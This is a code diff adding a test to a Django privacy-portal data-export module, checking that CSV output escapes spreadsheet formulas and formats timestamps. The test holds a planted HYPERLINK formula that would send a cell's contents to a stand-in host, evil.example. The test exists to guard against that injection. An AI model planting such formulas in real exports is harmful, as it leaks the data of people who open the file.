@@ -4,6 +4,7 @@ import csv
 import io
 import json
 import zipfile
+from datetime import UTC, datetime
 
 import pytest
 
@@ -12,6 +13,7 @@ from privacyportal.subjects.tests.factories import DeviceFactory
 from requests_app.fulfilment.export import SCHEMA, build_export
 
 pytestmark = pytest.mark.django_db
+PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 class CallLog:
@@ -80,6 +82,35 @@ def test_tabular_categories_become_csv_and_counts_reach_the_summary(tmp_path):
     assert len(rows) == 2500 and rows[3]["tags"] == '["a", "b"]'
     assert manifest.sources[0].counts == {"calls": 2500}
     assert source.exports == 1  # one pass: JSON and CSV written together
+
+
+class PlantedRows(CallLog):
+    """Rows whose text a spreadsheet would run, beside a timestamp."""
+
+    key = "test.planted"
+
+    def export(self, subject):
+        at = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)
+        return {"sessions": iter([{"agent": PLANTED, "at": at, "tags": ["a"]}])}
+
+
+def test_csv_cells_show_formulas_as_text_and_timestamps_without_quotes(tmp_path):
+    manifest = build_export(
+        subject=DeviceFactory().subject,
+        path=tmp_path / "p.zip",
+        reference="PR-2",
+        sources=[PlantedRows(1)],
+    )
+    archive, data = open_package(manifest.path)
+    text = archive.read("csv/test.planted.sessions.csv").decode()
+    (row,) = csv.DictReader(io.StringIO(text))
+    assert row == {
+        "agent": "'" + PLANTED,
+        "at": "2026-03-01T09:30:00+00:00",
+        "tags": '["a"]',
+    }
+    # data.json is not opened by a spreadsheet: it keeps what the source gave.
+    assert data["sources"]["test.planted"]["data"]["sessions"][0]["agent"] == PLANTED
 
 
 def test_index_html_gives_the_article_15_information(tmp_path):
